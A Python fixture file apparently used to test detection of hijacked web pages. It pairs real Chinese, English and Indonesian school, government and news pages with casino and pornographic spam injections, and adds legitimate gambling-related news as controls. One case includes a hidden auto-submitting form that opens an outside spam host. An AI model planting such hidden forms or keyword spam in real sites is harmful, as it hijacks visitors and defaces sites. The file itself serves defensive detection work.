p = ['''On September 1, primary and secondary schools across the country ushered in the first day of the start of school. Children put on neatly clean school uniforms, carry school bags, and entered the campus with curiosity and expectations for the new semester. The school also helps students adapt to the learning life of the new semester as soon as possible through the welcoming ceremony, the opening ceremony, and the first lesson of the school. Through the school series series, we are glad to find that the Chinese campus is quietly becoming beautiful, the school uniforms are becoming more and more beautiful, and the temperament of students is more elegant and confident.''',
'''The wind in early autumn blew the haze of the epidemic, and the rain in early autumn took away the high temperature of the hot summer. After nearly half a year of long waiting, on September 1, the children of Hebei Primary School in Minhang District, Shanghai, facing the sun, accompanied by laughter, and reuniting with the teacher on the campus with longing. Volunteers of "Little" guide everyone in order to measure the temperature and wash their hands in an orderly manner, and arrange to enter the beautiful campus according to the divergent of different grades.''',
'''On the first day of the start of the school, Hongkou District Guangzhong Road Primary School held the first grade of "Meng Qiyuangzhong Green Growth". In the process of writing the word "human", the freshmen were influenced by the traditional Chinese culture. They learned to write positive writing and be positive, and took the first step in the growth of school.''']
add(url="https://4ll.net/educate/233207.html", title="Hello, a new semester!New observation of the school season, the Chinese campus is quietly becoming beautiful | Recommended",
    date="2022-09-04", source="China Education News", lang="en", paras=p,
    body_html=["<p>%s</p>" % H for H in [p[0].replace("&", "&amp;")]] + ['<p>To see how graphic codes improve the performance of new <a href="https://www.casino-online.com/rtg-casinos/">RTG casinos</a>, visit casino-online.com</p>', "<p>01</p>", "<p>Shanghai</p>", "<p>%s</p>" % p[1], '<p class="caption">Hebei Primary School, Minhang District, Shanghai, children return to campus</p>', "<p>%s</p>" % p[2]],
    meta="Author:China Education News Time:2022.09.04", injections=["spam_sentence_in_body"], spam_strings=["RTG casinos", "casino-online.com"],
    site="4ll.net", shell="C", kind="real-injection-in-real-page",
    origin="spam sentence from github rustyrussell/ccan issue #100 (casino link sentence on a lapsed project site); page text: " + PQ % "国产精品 一区二区 学校 举行 开学典礼",
    note="English page; the spam sentence with its link inserted after the lead paragraph; section numbers and caption kept out of the text")
T18 = "188金宝博娱乐城-明升投注网 -博彩网 源码程序"
p = ['''2025年9月27日至30日,應(yīng)貴州省榕江縣民族宗教事務(wù)局邀請(qǐng),學(xué)校組織專(zhuān)家和師生足球聯(lián)隊(duì)赴榕江縣開(kāi)展共同現(xiàn)代化試點(diǎn)工作座談與足球文化交流活動(dòng)。此次活動(dòng)是落實(shí)2025年上半年校地雙方簽訂的《校地雙方合作協(xié)議》的具體舉措,旨在通過(guò)體育文化交流推動(dòng)校地合作走深走實(shí),助力民族地區(qū)共同現(xiàn)代化建設(shè)。''',
'''活動(dòng)期間,師生聯(lián)隊(duì)首先參觀(guān)了“村超歷程館”,深入了解“村超”文化背后的奮斗精神和社區(qū)凝聚力。隨后,校地雙方圍繞共同現(xiàn)代化試點(diǎn)工作召開(kāi)座談會(huì),榕江縣有關(guān)部門(mén)介紹了試點(diǎn)進(jìn)展與挑戰(zhàn),學(xué)校專(zhuān)家組就共同現(xiàn)代化、民族團(tuán)結(jié)進(jìn)步、數(shù)字化發(fā)展、體育康養(yǎng)等議題提出建議,為試點(diǎn)推進(jìn)建言獻(xiàn)策。中南民族大學(xué)師生聯(lián)隊(duì)領(lǐng)隊(duì)、體育學(xué)院黨委書(shū)記洪盛志表示,我校在民族理論政策研究、人才培養(yǎng)、社會(huì)服務(wù)等方面具有特色優(yōu)勢(shì),與榕江縣緊密協(xié)作,共同研究解決試點(diǎn)中的實(shí)際問(wèn)題,總結(jié)提煉可復(fù)制、可推廣的經(jīng)驗(yàn)做法,能為推進(jìn)民族地區(qū)的共同現(xiàn)代化建設(shè)貢獻(xiàn)智慧和力量。''']
add(url="https://www.q9g8hr7.xyz/tyxy/info/1132/1946.htm", title="以球?yàn)槊?,深化校地合?學(xué)校師生足球聯(lián)隊(duì)赴榕江縣開(kāi)展交流活動(dòng)", date="2025-10-09", paras=p,
    body_html=["<p>%s</p>" % x for x in p] + ['<p class="pic">捐贈(zèng)儀式 戴侯佑攝</p>'], title_tag=T18, top_html='<div class="toptitle">%s</div>' % T18,
    meta="發(fā)布日期:2025-10-09   瀏覽:次", crumb="當(dāng)前位置: 首頁(yè) > 學(xué)院新聞 > 正文",
    injections=["keyword_stuffed_title", "traditional_mirror"], spam_strings=["188金宝博娱乐城", "明升投注网"], site="學(xué)院新聞(鏡像)", shell="A",
    origin=PQ % "首页 新闻中心 正文 体育 官方网站 入口 学院 召开 座谈会", note="casino keyword title over a traditional-script copy of a university sports-college item; headline kept with its captured '?' runs")
PL2 = "久久精品国产色蜜蜜麻豆_日韩精品视频免费观看_91精品在线视频_成人高辣h视频一区二区在线观看"
p = ['''新華社天津2月21日電(記者 張建新、劉林)第九屆全國大學生運動會(以下簡稱“大運會”)組委會21日在天津召開新聞發(fā)布會,宣布第九屆大運會將于2012年9月8日至18日在天津市舉行。''',
'''全國大學生運動會是根據(jù)《學校體育工作條例》的規(guī)定舉行的,每四年一屆。大運會舉辦以來始終堅持“團結(jié)、奮進、文明、育人”的宗旨,堅持“突出教育特色、講求綜合效益”的原則。''',
'''據(jù)了解,本屆大運會設(shè)田徑、游泳、足球、籃球、排球、乒乓球、武術(shù)、健美操、定向越野、跆拳道、毽球、橋牌12個比賽項目。運動會期間,還將舉行高校體育工作會議,并舉行大運會“校長杯”評選和科學論文報告會等活動,參會人數(shù)預計超過七千人。''',
'''為體現(xiàn)大運會的特點,促進大學生之間的交流,比賽場館和接待除定向越野外,均安排在天津市11所高校和海河教育園。18個比賽場館中,新建場館5個,改造利用現(xiàn)有場館13個。全部場館將于5月底前完工,陸續(xù)進入試運行階段,確保第九屆大運會順利舉行。''',
'''大運會是由教育部、國家體育總局、共青團中央聯(lián)合主辦的綜合性運動會,每四年一屆,有“小全運會”之稱。自1982年以來,已成功舉辦了八屆,賽會規(guī)模越來越大,參賽人數(shù)越來越多。''']
add(url="http://nakedoat.com/govweb/jrzg/2012-02/21/content_2073033.htm", title="第九屆全國大學生運動會將于今年9月在天津舉行", date="2012-02-21", source="新華社", paras=p,
    top_html='<p class="kw">%s</p>' % PL2, meta="中央政府門戶網(wǎng)站 www.nakedoat.com   2012年02月21日 21時01分   來源:新華社", crumb="當前位置: 首頁>> 今日中國>> 中國要聞",
    body_html=["<p>%s</p>" % x for x in p] + ['<p class="rel">相關(guān)鏈接</p><p>· 8月10日:首屆全國大學生運動會開幕</p>'],
    injections=["porn_keyword_line", "traditional_mirror", "host_substitution"], spam_strings=PL2.split("_"), site="中央政府門戶網(wǎng)站(鏡像)", shell="D",
    origin=PQ % "首页 新闻中心 正文 体育 官方网站 入口 学院 召开 座谈会", note="porn keyword line over a traditional-script copy of a gov.cn news item whose byline names the copying host; related-links block kept out")

# ---------------- legit ----------------
def legit(**k):
    k["legit"] = True; k["hijacked"] = False; k["injections"] = []; add(**k)
p = ['''今(26)日,四川新闻网记者从泸州市合江县公安局获悉,该局日前打掉一个川黔两省的跨省流动赌博团伙。行动共抓获涉赌人员61名,现场缴获赌资30余万元,缴获用于赌博的扑克牌若干,赌博电子游戏机2台,赌博点子游戏机配件1箱。''',
'''10月16日,合江县公安局治安大队在开展走访调查工作时获得一条重要线索:在合江县合江镇符阳路附近,隐藏着一个从贵州赤水到合江来“打大牌”的跨省赌博窝点,赌博金额巨大。获此线索后,经过全面摸排调查,民警很快发现合江镇符阳路某小区内的一居民房,夜间经常有贵州口音的陌生人员进出。为不打草惊蛇,民警们没有贸然行动,而是顺藤摸瓜,一路打探。''',
'''10月19日,经过几天几夜的连续蹲守,专案组基本摸清了该赌博窝点的活动规律以及主要涉赌人员情况,决定收网抓捕。当日18时许,70余民警便装出击,隐藏在赌场外。20多分钟后,陆续有多名参赌人员进入赌博窝点。“行动!”随着指挥员的一声令下,抓捕民警兵分多路火速冲进赌场,带队民警高喊一声“都不许动,蹲下!”未等参赌人员回过神来,民警已将赌博现场包围控制,牢牢地堵住了赌场的所有出路,60余名赌徒只得抱头蹲地,束手就擒。''',
'''原标题:泸州警方打掉跨省流动赌博团伙 现场抓获61人''']
legit(url="http://news.chengdu.cn/2016/1026/1826973.shtml", title=None, date="2016-10-26", paras=p, site="成都全搜索", shell="B", title_tag="成都全搜索新闻网",
      origin=PQ % "公安 打掉 跨境赌博 团伙 抓获 嫌疑人", note="police report on a gambling ring")
p = ['''福彩公益是指 通过发行销售中国福利彩票来筹集公益金,并将这些资金用于支持社会福利和公益事业的发展。中国福利彩票的发行宗旨是“扶老、助残、救孤、济困”,这一宗旨明确了福彩的公益属性,并确定了其发展方向。''',
'''具体来说,公益福彩包括以下几个方面:''', '''筹集公益金:''', '''通过销售福利彩票,筹集到的资金用于支持社会福利事业和公益事业的发展。''',
'''支持社会福利事业:''', '''这些资金用于兴办各类社会福利机构,改善弱势群体的生活条件,提供各种形式的援助。''', '''传递社会正能量:''',
'''公益福彩通过各种公益活动传递爱心与温暖,唤醒人们心底的爱,帮助需要帮助的人群,促进社会的和谐与进步。''', '''彩票公益金:''',
'''彩票公益金是从彩票发行销售收入中提取的,专项用于社会福利、体育等社会公益事业的资金,逾期未兑奖的奖金也纳入彩票公益金。''',
'''总结起来,福彩公益是通过发行和销售福利彩票这一形式,筹集公益金并用于支持社会福利和公益事业的发展,旨在传递社会正能量,帮助需要帮助的人群,促进社会的和谐与进步。''']
legit(url="https://ksdpa.cn/zixun/126111.html", title=None, date=None, paras=p, site="资讯", shell="C", title_tag="资讯",
      origin=PQ % "福利彩票 公益金 发行 通知 2024", note="explainer on welfare-lottery public funds")
p = ['''【本報訊】根據澳門博彩監察協調局公布的首三個月博彩統計,澳門賭場的毛收入共有五百六十一點七六億澳門元,比去年同期的六百四十七點七七億澳門元,減少百分之十三點二。另外,反映貴賓廳收入的貴賓百家樂收入,首季就有三百零三點八二億澳門元,減收百分之十九點三,佔全部博彩毛收入的百分之五十四,按年下跌四個百分點。''',
'''首季全澳門賭枱逾六千張,按季增加一百三十張,角子機總數一萬四千二百九十七台,減少二百八十一台。''']
legit(url="http://orientaldaily.on.cc/cnt/news/20160419/00176_075.html", title="賭場首季毛收入減13.2%", date="2016-04-19", paras=p,
      body_html=["<p>%s</p>" % x for x in p] + ["<p>第一手消息請下載on.cc東網iPhone/iPad/Android/Windows Phone Apps</p>"],
      site="東方日報", shell="B", encoding="gb18030", origin=PQ % "澳门博彩 毛收入 博彩业 季度 同比 增长 赌场", note="casino gross-revenue news (traditional script); app promo line kept out")
p = ['''新华网澳门11月19日电 截至今年10月,澳门特区政府的博彩税收入已达117亿澳门元(下同),超过2003年特区全年博彩税收入101亿元的纪录。特区政府有关部门工作人员告诉记者,10月份澳门整体博彩收益约为42亿多元,与9月份的30亿元相比较,增幅达40%。''',
'''同时,澳门10月份的博彩市场占有情况与9月相比有了变化。独占鳌头的仍是澳门博彩股份有限公司,其下辖赌场的收益占总收益的80%左右,毛利达29亿元,与9月份67%的市场占有率相比有了明显回升;而金沙娱乐场和银河华都都各占总收益的10%左右,但金沙娱乐场的月收益首次超过了银河华都。''']
legit(url="https://business.sohu.com/20041119/n223081282.shtml", title=None, date="2004-11-19", paras=p, site="搜狐财经", shell="B", encoding="gb18030", title_tag="搜狐财经",
      origin=PQ % "澳门博彩 毛收入 博彩业 季度 同比 增长 赌场", note="Macau gaming-tax news naming casino operators")
p = ['''LONDON — School and government websites in the UK have been hacked to redirect users to porn sites, according to new British research.''',
'''The Telegraph newspaper reports hundreds of public websites have been targeted, including the domains of primary schools, universities and groups such as the Driving Standards Association and various local government websites, such as the Historic Scotland heritage site.''',
'''The study said the hacking was not uniform, in creating links to material not suitable for minors on various Web pages. In some cases, these links appear on home pages, while in other cases, were buried within the site, such as Cardiff High School in Wales, which found itself with porn links in its calendar section. However, a school spokesperson said the hacking was "spotted quickly, with security measures put in place."''',
'''The research from Backup Technology and digital agency, Branded 3 said hackers added the links to boost traffic for adult content sites that range from hardcore porn to sexual aids like Viagra. Some of these sites in turn, were discovered to be fronts for the installation of viruses or malware to steal user information.''',
'''According to the study, more than 30 school and university sites ending with an ".ac.uk" domain were infected with link codes that could direct children away from a safe school site to a third-party site owned by the hacker.''',
'''Also hacked were some ".gov.uk" sites and the damage was viewable in Google search results that correlated those government sites to hacker's Viagra sites.''',
'''A government spokesperson from the Home Office said it is policy "neither to confirm nor deny if an individual organization has been the subject of an attack nor to speculate on the possible origins of such attacks."''']
legit(url="http://avn.com/business/articles/technology/UK-School-and-Government-Websites-Hacked-345785.html", title="UK School and Government Websites Hacked", date=None, lang="en", paras=p,
      body_html=["<p>%s</p>" % H.replace("&", "&amp;").replace("<", "&lt;") for H in p], site="AVN", shell="C", origin=PQ % "hacked university news page casino links hidden injected spam",
      note="adult-industry trade news about hacked school sites (mentions porn and Viagra legitimately)")
p = ['''CYBER criminals are targeting some of the best universities in the United States, leaving thousands of students at risk of being hacked.''',
'''Some of the top colleges such as Harvard, Stanford, and Columbia have had their websites infiltrated by "Black Hat SEO" hackers.''',
'''According to research from cybersecurity company NordVPN, the hackers zone in on reputable organizations, such as Ivy League institutions, and attach links to sordid content.''',
'''They also promote spam that in turn could leave students, and other internet users, susceptible to hacking and having their personal details preyed upon.''',
'''Malware programs are lying within these sites, which then opens the door for hacking.''',
'''Stanford has been hit particularly hard - their site is packed full of 3,110 links to adult sites like OnlyFans as well as sports streaming services and gambling sites.''',
'''Harvard, according to the research, has 309 dodgy links, with Columbia's tally coming in at 238.''',
'''The worst by far, however, was the Inter-American University of Puerto Rico, which had 49,400.''',
'''College websites are a huge draw to hackers.''']
legit(url="https://www.the-sun.com/tech/8920877/cyber-hackers-drain-bank-accounts-university-students/", title="Urgent warning to college students over thousands of sites that will drain bank accounts with Google searches to blame",
      date=None, lang="en", paras=p, site="The US Sun", shell="C", origin=PQ % "hacked university news page casino links hidden injected spam", note="news on black-hat SEO gambling/adult links on university sites")
p = ['''MAKLUMAT — Universitas Muhammadiyah Tangerang (UMT) mengambil langkah strategis dalam menghadapi bahaya laten perjudian digital di kalangan generasi muda. Melalui acara bertajuk ‘Workshop Diskusi Sinergi & Deklarasi Kampus Anti Judi Online‘, UMT menggaungkan gerakan #KampusAntiJudiOnline, Sabtu (12/4/2025).''',
'''Acara yang diikuti ratusan peserta ini menghadirkan content creator sekaligus podcaster ternama, Imam Budi, dalam rangkaian program ‘Imam Budi Goes to Campus‘.''',
'''Dalam sesi diskusi, Imam Budi menyoroti dampak destruktif judi online, tidak hanya dari sisi ekonomi, tetapi juga mentalitas pelakunya. “Judi online bukan hanya soal kehilangan uang, tapi juga soal mentalitas instan yang menghancurkan masa depan generasi muda,” ujarnya.''',
'''Imam Budi juga mengajak mahasiswa untuk menjadi agen perubahan di lingkungan masing-masing, terutama melalui media sosial dan komunitas. Edukasi sebaya, menurutnya, adalah kunci utama dalam mencegah meluasnya praktik judi online di kalangan pelajar dan mahasiswa.''',
'''Puncak acara ditandai dengan Deklarasi Bersama #KampusAntiJudiOnline, yang diwujudkan dalam penandatanganan komitmen serta pengibaran banner sebagai simbol perlawanan terhadap perjudian digital di lingkungan kampus.''',
'''Wakil Rektor III UMT Bidang Kemahasiswaan, Dr Enawar SPd SE MM, menegaskan pentingnya peran kampus dalam merespons fenomena judi online yang semakin marak dan meresahkan, serta menjangkit masyarakat luas.''',
'''“Kegiatan ini merupakan bentuk nyata peran kampus dalam membentengi mahasiswa dari pengaruh negatif dunia digital. Judi online adalah ancaman serius yang harus kita lawan bersama dengan edukasi, kolaborasi, dan aksi nyata,” katanya.''',
'''UMT berharap, inisiatif ini dapat menjadi gerakan nasional yang menginspirasi kampus-kampus lain di Indonesia untuk ikut serta dalam menciptakan ekosistem pendidikan yang sehat, aman, dan produktif di era digital.''']
legit(url="https://maklumat.id/lawan-ancaman-serius-judi-online-umt-gaungkan-gerakan-kampusantijudionline", title=None, date="2025-04-12", lang="id", paras=p,
      body_html=["<p>%s</p>" % H.replace("&", "&amp;") for H in p], site="Maklumat", shell="C", title_tag="Maklumat",
      origin=PQ % "judi slot online situs universitas berita kampus kegiatan mahasiswa gacor", note="Indonesian campus anti-online-gambling news; date is the event date in the text")
p = ['''为提高公众对非法彩票危害的认识,规范彩票市场秩序。3月26日,衡阳市福彩中心联合公安部门开展“警彩联动·打击非法彩票”宣传活动。活动通过设置宣传展板、发放宣传资料、现场讲解等形式,帮助广大群众识别非法彩票,增强风险防范意识。''',
'''活动现场,印有“量力而行,理性购彩”“打击地下六合彩,发展福彩公益事业”“坚决抵制非法彩票,支持国家公益彩票”等宣传标语的主题展板,整齐排列,吸引了众多群众驻足观看。市福彩中心工作人员向过往的群众宣传福彩的公益属性和社会责任,通过发放打击非法彩票的宣传手册,现场讲解非法彩票的定义、危害及法律后果,揭示非法彩票的常见套路,帮助群众有效识别陷阱与诱惑,引导群众知法守法,树立理性购彩的理念。''',
'''公安民警结合实际案例,向群众介绍了参与非法彩票活动可能面临的法律后果。据了解,近年来,一些不法分子利用互联网、社交软件等平台,以高额回报为诱饵,吸引群众参与非法彩票投注,导致部分群众遭受经济损失。民警提醒广大市民:“购买非法彩票不仅无法保障自身权益,一旦遭遇诈骗,追回损失的难度极大。市民如发现非法彩票线索,应及时向公安机关举报。”下一步,市福彩中心将加强与公安、市场监管等部门的沟通协调,加大对非法彩票的打击力度,同时,还将持续开展宣传活动,深入社区、高校和人流密集区等场所,扩大宣传覆盖面,提高市民的防范意识,共同营造健康、有序的彩票市场环境。''']
legit(url="http://sdjs.apcreports.org.cn/sdjs/news/30087.html", title="警彩联动,打击非法彩票", date="2025-03-28", source="中国报道", paras=p,
      body_html=["<p>%s</p>" % p[0], '<p class="pic">向群众宣传福彩的公益属性和社会责任</p>', '<p class="pic">发放打击非法彩票的宣传手册</p>', "<p>%s</p>" % p[1], '<p class="pic">发放打击非法彩票的宣传手册</p>', "<p>%s</p>" % p[2]],
      meta="发布时间:2025-03-28 14:11:00 推广 来源:中国报道", crumb="位置:当前位置:首页 >> 法治", site="中国报道网", shell="B", encoding="gb18030",
      origin=PQ % "彩票 警方 提醒 私彩 網(wǎng)絡(luò) 賭博", note="welfare-lottery centre and police campaign against illegal lotteries; captions kept out; the captured text ends at '(邓' (byline cut) which is left out")
p = ['''私彩 私彩是指私人坐庄,由个人或组织发行的,以诈取钱财为目的的非法彩票。一般以公益彩票的开奖结果进行赌博,骗取高额利润.。 大致分以下3种: 1.地下六合彩,以香港六合彩的开奖号码进行变相赌博,以1赔40左右的高额赔率欺骗民众。 2.福彩3D系列玩法,以福利彩票官方开出的号码为中奖号码,奖金比官方高出约70%,以高额的奖金引诱广大彩民参与其中。 3.伪“体彩七星彩”,在海南省很泛滥。以中国体育彩票官方开出的号码为中奖号码。“体彩七星彩”多为“神仙”【相当于骗子】通过在街头传授“铁卒”“三字现”“定位”等预测玩法宣传,通过搭摊【有时在官方指定售票点】吸引购买。报纸电视也顺势打出“神仙”号码讲解,居然还敢打出“讲解号码系个人观点,彩民据此选号后果自负”。 私彩是针对公彩而言。公益彩票多由国家发行,抽取部分彩金捐作社会公益基金;私彩是私人坐庄,利润归庄家所得。国家发行的公益彩票具有法律保障,而私彩不受法律保护,常因奖金引发纠纷,甚至诱发众多社会问题。''']
legit(url="http://cnenc.net/b1542197.html", title="私彩", date=None, paras=p, body_html=['<table class="ct"><tr><td>词条</td><td>私彩</td></tr><tr><td>释义</td><td>%s</td></tr></table>' % p[0], '<p class="sj">随便看</p><p>百科全书收录4421916条中文百科知识,基本涵盖了大多数领域的百科知识,是一部内容开放、自由的电子版百科全书。</p>'],
      site="百科全书", shell="D", origin=PQ % "彩票 警方 提醒 私彩 網(wǎng)絡(luò) 賭博", note="encyclopedia entry on illegal private lotteries (地下六合彩 named as a topic)")
p = ['''【威海网络公司讯】4月17日, 我们在近期发现不少网站出现了被黑的情况。其主要表现形式为:站点通过代码劫持等形式跳转到第三方恶意站点,网站出现大面积被黑、博彩、色情、私服等不良信息:''',
'''这种行为严重影响用户搜索体验,同时对网站在搜索中的排序、流量和口碑造成极其恶劣的影响,其背后隐藏的欺诈、钓鱼、挂马等行为更会严重损害广大网民的信息安全和利益。''',
'''针对日趋严重的网站被黑现象,我们对原有悟空算法进行了升级,新发布“悟空算法2.0”。能更加准确快速地识别各种网站被黑客攻击的行为,降低恶意网站在搜索引擎中的不良展现和对用户的影响,严厉打击此类针对360搜索的作弊行为。''',
'''360搜索致力于为网民提供安全可信的搜索结果,避免用户遭受被黑网站的伤害。我们诚邀广大站长与我们积极配合,一旦发现网站存在被黑情况,及时进行处理整改。''',
'''同时,注册我们的360搜索站长平台,如遇到网站被黑或被攻击,您可以免费获得360搜索提供的邮件通知,同时享受到360搜索站长平台提供的各类数据和服务支持。''',
'''互联网网站的安全,离不开我们与站长的共同努力,我们感谢各位站长和用户多年来的支持,我们愿与全体站长与亿万网民在一起,守护网站安全,共同维护我们安全可信的互联网生态环境!''',
'''360搜索反作弊团队''', '''2017.4.12''']
legit(url="https://zccn.cc/a/xinwenzixun/meitibaodao/318.html", title=None, date="2017-04-17", paras=p,
      body_html=["<p>%s</p>" % x for x in p] + ['<p>文章整理:威海网络公司 http://www.zccn.cc</p>'], meta="发表日期:2017-04-17 03:01:05文章编辑:admin浏览次数:804 标签:",
      site="威海网络公司", shell="D", crumb="首页 > 新闻资讯 > 媒体报道", origin=PQ % "网站首页 被篡改 title 博彩 关键词 百度快照 学校 官网 处理",
      note="search-engine anti-hijack notice (mentions 博彩/色情 as topics); reposting credit line kept out")

# real injection (abbshr/abbshr.github.io issue #23: hidden auto-submit form injected into pages) into a real clean school page
p = ['''2月20日晚,我部根据学校工作的整体安排,在第一报告厅召开了全体教师大会,共有本部涉课教师70余人参加了会议。''',
'''会议由系部主任潘坤茂主持,首先部署安排并强调了开学初的几项重点工作。接着由汪尊忠老师带领大家学习我校《深化教学改革 提升办学内涵的实施意见》的通知,又学习了安徽省教育厅关于开展“文明风采”活动的通知,并按通知要求做了相关部署。最后,全体教师观看了县纪委指定的专题记录片《酒的代价》。此片再一次提醒全体同仁:喝酒不开车,开车不喝酒。''',
'''会议历时一个半小时,达到了激励教职工,勤奋工作,勇于担当,乐于奉献的积极效果。''']
INJ = '''<div id="sl_03_372741560" style="display:none">
        <form action="http://p1.0817tt.com/fshowurl.php?id=179075" method="post" name="nnsl_03_372741560" target="_blank"><input type="submit" style="display:none" id="sbbuttonsl_03_372741560">
        </form> 
    </div>'''
CASES.insert(19, dict(url="https://cnzhuoda.com/jcb/contents/425/73.html", title=None, date=None, paras=p, foot_html=INJ,
    injections=["hidden_autosubmit_form"], spam_strings=[], legit=False, hijacked=True, source=None, author=None, capture="text", kind="real-injection-in-real-page",
    encoding="gbk", lang="zh", site="基础部", shell="D", title_tag="基础部", crumb="首页 > 部门动态",
    origin="snippet from github abbshr/abbshr.github.io issue #23 (hidden auto-submit form found in a hijacked page); page text: " + PQ % "學(xué)校 召開(kāi) 工作會(huì)議 部署 全體 教師",
    note="no visible spam; hidden popunder form appended before </body>"))
